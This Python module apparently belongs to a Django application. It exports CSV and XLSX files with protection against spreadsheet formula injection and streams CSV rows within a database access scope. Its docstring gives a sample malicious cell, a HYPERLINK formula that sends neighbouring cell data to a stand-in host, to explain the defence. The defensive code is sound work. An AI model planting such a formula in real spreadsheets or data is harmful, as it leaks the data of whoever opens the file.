"""Spreadsheets people open (CSV and XLSX): typed text never becomes a formula, and a
streamed CSV keeps the caller's database scope to its last row. Kernel code: imports no app.

Formula injection: a spreadsheet program runs a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, after a tab or carriage return, whatever follows) as a formula, so an
establishment named ``=HYPERLINK("http://evil.example/?"&B3, "…")`` would send the
neighbouring cells away when an Agency official opens the national export. Such text is
written with a leading apostrophe in CSV (the usual OWASP neutralisation, which spreadsheet
programs show as text) and as an explicit text cell with Excel's quote prefix in XLSX.
Numbers, dates and booleans are written as they are.
"""

import csv
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse
from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from . import rls

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_safe(value):
    """A value for a CSV cell: None is empty; text that a spreadsheet would run is
    prefixed with an apostrophe; numbers stay numbers."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + value
    return value


def xlsx_set(cell, value) -> None:
    """Put ``value`` into an openpyxl cell (also a write-only one) so that text is always
    text: openpyxl turns any string starting with "=" into a formula, so such text is
    stored as a string cell with the quote prefix (Excel then keeps it text even when the
    cell is edited). Control characters that XLSX cannot hold are dropped."""
    if isinstance(value, Promise):  # a lazily translated label
        value = str(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.value = value
        if is_formula_like(value):
            cell.data_type = "s"
            cell.quotePrefix = True
    else:
        cell.value = value


class _Echo:
    """A file-like object whose write returns the line, for csv.writer in a generator."""

    def write(self, value):
        return value


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """Yield CSV lines: a BOM (so Excel reads UTF-8), the header, the rows, every cell
    passed through :func:`csv_safe`."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([csv_safe(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_safe(v) for v in row])


def streaming_csv_response(header, rows: Iterable, filename: str) -> StreamingHttpResponse:
    """A CSV streamed in constant memory. ``rows`` must be lazy (a generator or a
    queryset iterator not yet started): it is read while the response is sent, after the
    request's middleware has cleared the database scope, so the rows are read inside a
    transaction of their own that carries the scope of this request (see
    :func:`khuyencong.rls.carry_scope`)."""
    response = StreamingHttpResponse(csv_lines(header, rls.carry_scope(rows)),
                                     content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
